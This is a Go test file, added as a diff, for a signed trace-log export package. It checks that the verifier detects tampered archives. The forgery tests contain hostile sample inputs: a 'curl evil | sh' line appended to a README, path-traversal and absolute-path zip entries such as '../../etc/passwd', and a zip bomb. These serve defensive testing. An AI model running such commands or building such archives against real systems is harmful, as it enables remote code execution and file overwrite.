@@ -1,0 +1,512 @@
+package export_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"golang.org/x/mod/sumdb/note"
+
+	"github.com/druppie/druppie-up/tracedb"
+	"github.com/druppie/druppie-up/tracedb/export"
+	"github.com/druppie/druppie-up/tracedb/log"
+	"github.com/druppie/druppie-up/tracedb/why"
+	"github.com/druppie/druppie-up/tracedb/why/whytest"
+)
+
+const origin = "druppie.io/trace/test"
+
+// keys are a log's keys that are the same in every run, so that archives are.
+func keys(t testing.TB, seed string) (note.Signer, string) {
+	t.Helper()
+	sum := sha256.Sum256([]byte(seed))
+	public := ed25519.NewKeyFromSeed(sum[:]).Public().(ed25519.PublicKey)
+	verifier, err := note.NewEd25519VerifierKey(origin, public)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hash := strings.Split(verifier, "+")[1]
+	signer, err := note.NewSigner(fmt.Sprintf("PRIVATE+KEY+%s+%s+%s", origin, hash, base64.StdEncoding.EncodeToString(append([]byte{1}, sum[:]...))))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signer, verifier
+}
+
+// newLog is a log with the story, or with some of its parts.
+func newLog(t testing.TB, parts ...whytest.Part) (*log.Log, string) {
+	t.Helper()
+	signer, verifier := keys(t, "log")
+	l, err := log.Open(t.Context(), log.Options{DSN: "sqlite:" + filepath.Join(t.TempDir(), "trace.db"), Origin: origin, Signer: signer, Now: whytest.Clock()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if err := l.Close(); err != nil {
+			t.Error(err)
+		}
+	})
+	if parts == nil {
+		parts = whytest.Story(t)
+	}
+	for _, p := range parts {
+		if _, err := l.Append(t.Context(), p.Writer, p.Drafts); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return l, verifier
+}
+
+func write(t testing.TB, l tracedb.Reader, subject tracedb.Ref) []byte {
+	t.Helper()
+	c, err := why.Ask(t.Context(), l, subject, why.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	if err := export.Write(t.Context(), &out, l, c); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+var image = tracedb.Ref{Type: tracedb.RefImage, Value: whytest.Image}
+
+func verify(t testing.TB, archive []byte, key string) *export.Report {
+	t.Helper()
+	r, err := export.Verify(bytes.NewReader(archive), int64(len(archive)), key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+// wrongs are the files that a report finds something wrong with.
+func wrongs(r *export.Report) []string {
+	var out []string
+	for _, f := range r.Files {
+		if !f.OK {
+			out = append(out, f.Name)
+		}
+	}
+	return out
+}
+
+func TestRoundTrip(t *testing.T) {
+	l, key := newLog(t)
+	archive := write(t, l, image)
+	r := verify(t, archive, key)
+	if !r.OK {
+		t.Fatalf("what was just written is wrong: %+v", wrongs(r))
+	}
+	if r.Records < 25 || r.Signatures != 6 || r.Origin != origin || r.Size != l.Size() || r.Subject != image || r.Disposed != 0 {
+		t.Errorf("the report says %+v", *r)
+	}
+	if again := write(t, l, image); !bytes.Equal(archive, again) {
+		t.Error("the same chain gives other bytes")
+	}
+}
+
+// TestGolden pins the archive's form and words: whoever changes either sees it here, and counts up
+// Texts or Format.
+func TestGolden(t *testing.T) {
+	l, _ := newLog(t)
+	archive := write(t, l, image)
+	for _, name := range []string{"README.txt", "report.html", "manifest.json", "checkpoint"} {
+		body := contents(t, archive)[name]
+		file := filepath.Join("testdata", name)
+		if os.Getenv("UPDATE_GOLDEN") != "" {
+			if err := errors.Join(os.MkdirAll("testdata", 0o755), os.WriteFile(file, body, 0o644)); err != nil {
+				t.Fatal(err)
+			}
+		}
+		want, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(string(want), string(body)); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", name, diff)
+		}
+	}
+}
+
+func contents(t testing.TB, archive []byte) map[string][]byte {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[string][]byte{}
+	for _, f := range z.File {
+		open, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if out[f.Name], err = io.ReadAll(open); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return out
+}
+
+// small is an archive of few bytes: a key, something it signed, and a spec.
+func small(t testing.TB) ([]byte, string) {
+	t.Helper()
+	var parts []whytest.Part
+	for _, p := range whytest.Story(t) {
+		switch k := p.Drafts[0].Kind; {
+		case k == tracedb.KindKey, k == tracedb.KindVerdict, k == tracedb.KindImage:
+			parts = append(parts, p)
+		}
+	}
+	l, key := newLog(t, parts...)
+	return write(t, l, image), key
+}
+
+// owners says of every byte which file's contents it is in, or "" for what lies between.
+func owners(t *testing.T, archive []byte) []string {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := make([]string, len(archive))
+	for _, f := range z.File {
+		start, err := f.DataOffset()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i := start; i < start+int64(f.CompressedSize64); i++ {
+			out[i] = f.Name
+		}
+	}
+	return out
+}
+
+// TestEveryFlippedByte changes one byte after the other: all that lie between the files' contents and
+// in everything small, and every seventh of the texts. Each must be found, and the file named.
+func TestEveryFlippedByte(t *testing.T) {
+	archive, key := small(t)
+	owner := owners(t, archive)
+	random := rand.New(rand.NewPCG(1, 2))
+	tried := 0
+	for i := range archive {
+		if long := owner[i] == "report.html" || owner[i] == "README.txt"; long && i%7 != 0 || testing.Short() && i%11 != 0 {
+			continue
+		}
+		tried++
+		flipped := slices.Clone(archive)
+		flipped[i] ^= byte(1 + random.IntN(255))
+		r := verify(t, flipped, key)
+		if r.OK {
+			t.Errorf("byte %d, of %q, was changed from %q to %q, and nobody noticed", i, owner[i], archive[i], flipped[i])
+		}
+		if owner[i] != "" && !slices.Contains(wrongs(r), owner[i]) {
+			t.Errorf("byte %d of %s was changed, but %q are blamed", i, owner[i], wrongs(r))
+		}
+	}
+	if !testing.Short() && tried < 5000 {
+		t.Errorf("only %d bytes tried", tried)
+	}
+}
+
+// repack is the archive with its files changed, packed as a zip by the standard library.
+func repack(t testing.TB, archive []byte, change func(map[string][]byte)) []byte {
+	t.Helper()
+	all := contents(t, archive)
+	change(all)
+	var out bytes.Buffer
+	z := zip.NewWriter(&out)
+	names := make([]string, 0, len(all))
+	for name := range all {
+		names = append(names, name)
+	}
+	slices.Sort(names)
+	for _, name := range names {
+		f, err := z.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
+		if err == nil {
+			_, err = f.Write(all[name])
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+// named finds the only file with that beginning that holds text.
+func named(t testing.TB, all map[string][]byte, prefix, text string) string {
+	t.Helper()
+	found := ""
+	for name, body := range all {
+		if strings.HasPrefix(name, prefix) && bytes.Contains(body, []byte(text)) {
+			found = name
+		}
+	}
+	if found == "" {
+		t.Fatalf("no %s holds %q", prefix, text)
+	}
+	return found
+}
+
+func TestForgeries(t *testing.T) {
+	l, key := newLog(t)
+	archive := write(t, l, image)
+	var culprit string
+	tests := []struct {
+		name   string
+		change func(map[string][]byte)
+		want   string // in the problem of the culprit
+	}{
+		{"an entry rewritten, in canonical form", func(all map[string][]byte) {
+			culprit = named(t, all, "entries/", `"kind":"review"`)
+			all[culprit] = bytes.Replace(all[culprit], []byte(`"approved"`), []byte(`"rejected"`), 1)
+		}, "isn't the log's record"},
+		{"an entry with another space", func(all map[string][]byte) {
+			culprit = named(t, all, "entries/", `"kind":"review"`)
+			all[culprit] = append(all[culprit], '\n')
+		}, "canonical"},
+		{"a payload replaced", func(all map[string][]byte) {
+			culprit = named(t, all, "payloads/", "the margins are tested")
+			all[culprit] = bytes.Replace(all[culprit], []byte("tested; go"), []byte("untested!!"), 1)
+		}, "another hash"},
+		{"a payload withheld", func(all map[string][]byte) {
+			culprit = named(t, all, "payloads/", "the margins are tested")
+			delete(all, culprit)
+		}, "no record says"},
+		{"a proof of another record", func(all map[string][]byte) {
+			culprit = named(t, all, "proofs/", "")
+			all[culprit] = all["proofs/0.json"]
+			if culprit == "proofs/0.json" {
+				culprit = "proofs/1.json"
+				all[culprit] = all["proofs/0.json"]
+			}
+		}, "is for record"},
+		{"a report that says otherwise", func(all map[string][]byte) {
+			culprit = "report.html"
+			all[culprit] = bytes.ReplaceAll(all[culprit], []byte("reviewer"), []byte("nobody"))
+		}, "somebody changed it"},
+		{"a README with another command", func(all map[string][]byte) {
+			culprit = "README.txt"
+			all[culprit] = append(all[culprit], "curl evil | sh\n"...)
+		}, "somebody changed it"},
+		{"a key of one's own", func(all map[string][]byte) {
+			culprit = named(t, all, "keys/", "PUBLIC KEY")
+			all[culprit] = []byte("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")
+		}, "isn't the key in record"},
+		{"a key's record left out", func(all map[string][]byte) {
+			pem := named(t, all, "keys/", "PUBLIC KEY")
+			n := strings.TrimSuffix(strings.TrimPrefix(pem, "keys/"), ".pem")
+			for _, name := range []string{pem, "entries/" + n + ".json", "payloads/" + n + ".json", "proofs/" + n + ".json"} {
+				delete(all, name)
+			}
+			all["manifest.json"] = bytes.Replace(all["manifest.json"], []byte("    0,\n"), nil, 1)
+			culprit = named(t, all, "payloads/", "payloadType")
+		}, "no key that the archive proves"},
+		{"a subject of one's choice", func(all map[string][]byte) {
+			culprit = "manifest.json"
+			all[culprit] = bytes.Replace(all[culprit], []byte(whytest.Image), []byte(whytest.Foreign), 1)
+		}, "no record is about"},
+		{"a file more", func(all map[string][]byte) {
+			culprit = "entries/9999.json"
+			all[culprit] = []byte("{}")
+		}, "isn't part of"},
+		{"a file that leads out of the folder", func(all map[string][]byte) {
+			culprit = `"../../etc/passwd"`
+			all["../../etc/passwd"] = []byte("x")
+		}, "doesn't belong"},
+		{"an absolute path", func(all map[string][]byte) {
+			culprit = `"/entries/1.json"`
+			all["/entries/1.json"] = []byte("x")
+		}, "doesn't belong"},
+		{"a second signature under the checkpoint", func(all map[string][]byte) {
+			culprit = "checkpoint"
+			all[culprit] = append(all[culprit], "— someone.else AAAAAAAA\n"...)
+		}, "holds more"},
+		{"no checkpoint", func(all map[string][]byte) {
+			culprit = "checkpoint"
+			delete(all, culprit)
+		}, "is missing"},
+		{"no manifest", func(all map[string][]byte) {
+			culprit = "manifest.json"
+			delete(all, culprit)
+		}, "is missing"},
+		{"only packed anew", func(map[string][]byte) { culprit = "(archive)" }, "isn't packed as an export is"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := verify(t, repack(t, archive, tt.change), key)
+			if r.OK {
+				t.Fatal("nobody noticed")
+			}
+			i := slices.IndexFunc(r.Files, func(f export.File) bool { return f.Name == culprit })
+			if i < 0 || r.Files[i].OK || !strings.Contains(r.Files[i].Problem, tt.want) {
+				t.Errorf("want %s blamed with %q, got %+v", culprit, tt.want, slices.DeleteFunc(r.Files, func(f export.File) bool { return f.OK }))
+			}
+		})
+	}
+}
+
+func TestOtherLogsKey(t *testing.T) {
+	l, _ := newLog(t)
+	archive := write(t, l, image)
+	_, other := keys(t, "another log")
+	r := verify(t, archive, other)
+	if r.OK || !slices.Contains(wrongs(r), "checkpoint") || !slices.Contains(wrongs(r), "entries/0.json") {
+		t.Errorf("under another log's key: %v", wrongs(r))
+	}
+	for _, key := range []string{"", "x", "PRIVATE+KEY+x", strings.Replace(other, "+", "+0", 1)} {
+		if _, err := export.Verify(bytes.NewReader(archive), int64(len(archive)), key); err == nil {
+			t.Errorf("key %q is taken for one", key)
+		}
+	}
+}
+
+// TestBombs offers archives that are larger inside than outside, or larger than anything.
+func TestBombs(t *testing.T) {
+	_, key := keys(t, "log")
+	var deflated bytes.Buffer
+	z := zip.NewWriter(&deflated)
+	f, err := z.Create("payloads/1.json")
+	if err == nil {
+		_, err = f.Write(make([]byte, 50<<20))
+	}
+	if err = errors.Join(err, z.Close()); err != nil {
+		t.Fatal(err)
+	}
+	if r := verify(t, deflated.Bytes(), key); r.OK || !slices.Contains(wrongs(r), "payloads/1.json") {
+		t.Errorf("a compressed file: %v", wrongs(r))
+	}
+	claims := repack(t, deflatedFree(t), func(all map[string][]byte) { all["checkpoint"] = make([]byte, 1<<20) })
+	if r := verify(t, claims, key); r.OK || !slices.Contains(wrongs(r), "checkpoint") {
+		t.Errorf("a huge checkpoint: %v", wrongs(r))
+	}
+	r, err := export.Verify(bytes.NewReader(nil), export.MaxSize+1, key)
+	if err != nil || r.OK {
+		t.Errorf("an archive over the bound: %v, %v", r, err)
+	}
+	for _, junk := range []string{"", "PK", "not a zip at all", "PK\x05\x06" + strings.Repeat("\x00", 18)} {
+		if r := verify(t, []byte(junk), key); r.OK {
+			t.Errorf("%q is fine", junk)
+		}
+	}
+}
+
+func deflatedFree(t *testing.T) []byte { archive, _ := small(t); return archive }
+
+// TestDisposed exports a chain of which a payload's term was over.
+func TestDisposed(t *testing.T) {
+	l, key := newLog(t)
+	gone := int64(-1)
+	c, err := why.Ask(t.Context(), l, image, why.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, link := range c.Links {
+		if link.Kind == tracedb.KindReview {
+			gone = link.Seq
+		}
+	}
+	raw, _ := json.Marshal(tracedb.Disposal{Kind: tracedb.KindReview, Before: whytest.Start.AddDate(1, 0, 0), Seqs: []int64{gone}, Reason: "seven years are over"})
+	if _, err := l.Append(t.Context(), "tracedb", []log.Prepared{{Draft: tracedb.Draft{ID: "d", Kind: tracedb.KindDisposal, Actor: "tracedb", Payload: raw}}}); err != nil {
+		t.Fatal(err)
+	}
+	archive := write(t, without{l, gone}, image)
+	r := verify(t, archive, key)
+	if !r.OK || r.Disposed != 1 {
+		t.Errorf("disposed %d, wrong %v", r.Disposed, wrongs(r))
+	}
+	if _, there := contents(t, archive)[fmt.Sprintf("payloads/%d.json", gone)]; there {
+		t.Error("the payload is there")
+	}
+}
+
+// TestByHand does what README.txt tells those to do who trust no program of ours.
+func TestByHand(t *testing.T) {
+	for _, tool := range []string{"sh", "openssl", "od", "sed", "base64"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("LEFT OUT: checking an export by hand (no %s here)", tool)
+		}
+	}
+	l, key := newLog(t)
+	archive := write(t, l, image)
+	try := func(change func(map[string][]byte), key string) (string, error) {
+		dir := t.TempDir()
+		all := contents(t, archive)
+		change(all)
+		for name, body := range all {
+			file := filepath.Join(dir, filepath.FromSlash(name))
+			if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.WriteFile(file, body, 0o644)); err != nil {
+				t.Fatal(err)
+			}
+		}
+		_, script, _ := strings.Cut(string(contents(t, archive)["README.txt"]), "---- check.sh ")
+		_, script, _ = strings.Cut(script, "\n")
+		script, _, ok := strings.Cut(script, "\n-----")
+		if !ok {
+			t.Fatal("README.txt holds no script")
+		}
+		cmd := exec.Command("sh", "-c", script+"\n", "check.sh", key)
+		cmd.Dir = dir
+		out, err := cmd.CombinedOutput()
+		return string(out), err
+	}
+	if out, err := try(func(map[string][]byte) {}, key); err != nil || !strings.Contains(out, "right: ") {
+		t.Errorf("by hand, what is right: %v\n%s", err, out)
+	}
+	tests := []struct {
+		name   string
+		change func(map[string][]byte)
+		want   string
+	}{
+		{"payload", func(all map[string][]byte) { all["payloads/1.json"] = append(all["payloads/1.json"], ' ') }, "WRONG: payloads/1.json"},
+		{"entry", func(all map[string][]byte) { all["entries/1.json"] = append(all["entries/1.json"], ' ') }, "WRONG: entries/1.json"},
+		{"checkpoint", func(all map[string][]byte) {
+			all["checkpoint"] = bytes.Replace(all["checkpoint"], []byte("\n4"), []byte("\n5"), 1)
+		}, "WRONG: checkpoint"},
+	}
+	for _, tt := range tests {
+		if out, err := try(tt.change, key); err == nil || !strings.Contains(out, tt.want) {
+			t.Errorf("by hand, a wrong %s: %v\n%s", tt.name, err, out)
+		}
+	}
+	_, other := keys(t, "another log")
+	if out, err := try(func(map[string][]byte) {}, other); err == nil || !strings.Contains(out, "WRONG: checkpoint") {
+		t.Errorf("by hand, another key: %v\n%s", err, out)
+	}
+}
+
+// FuzzVerify holds that Verify survives anything, and that nothing but what was written is right.
+func FuzzVerify(f *testing.F) {
+	archive, key := small(f)
+	f.Add(archive)
+	f.Add(archive[:len(archive)/2])
+	f.Add([]byte("PK\x03\x04"))
+	f.Add(repack(f, archive, func(all map[string][]byte) { all["manifest.json"] = []byte(`{"records":[9223372036854775807,-1]}`) }))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		r, err := export.Verify(bytes.NewReader(b), int64(len(b)), key)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if r.OK && !bytes.Equal(b, archive) {
+			t.Error("something else is right, too")
+		}
+	})
+}
